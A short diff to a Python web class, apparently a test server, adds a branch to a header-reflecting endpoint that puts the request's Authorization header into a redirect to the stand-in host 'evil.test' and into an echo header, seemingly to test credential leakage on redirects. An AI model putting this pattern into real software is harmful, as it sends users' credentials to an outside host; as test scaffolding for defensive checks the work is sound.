@@ -122,7 +122,11 @@ class Web:
         return "200 OK", {}, json.dumps({"received": body}).encode()
 
     async def _reflect(self, head, body, where):
-        """The request's headers, as an answer that repeats a secret would have them: /reflect?as=base64"""
+        """The request's headers, as an answer that repeats a secret would have them: /reflect?as=base64. With in=head, its
+        credentials are in the head of a redirect to an evil host."""
+        if head.query.get("in") == "head":
+            told = head.get("authorization")
+            return "302 Found", {"Location": "https://evil.test/?k=" + urllib.parse.quote(told, safe=""), "X-Echo": told}, b""
         plain = "\n".join(f"{key}: {value}" for key, value in head.headers).encode()
         how = {"base64": base64.b64encode, "hex": lambda text: text.hex().encode(),
                "url": lambda text: urllib.parse.quote_from_bytes(text, safe="").encode()}
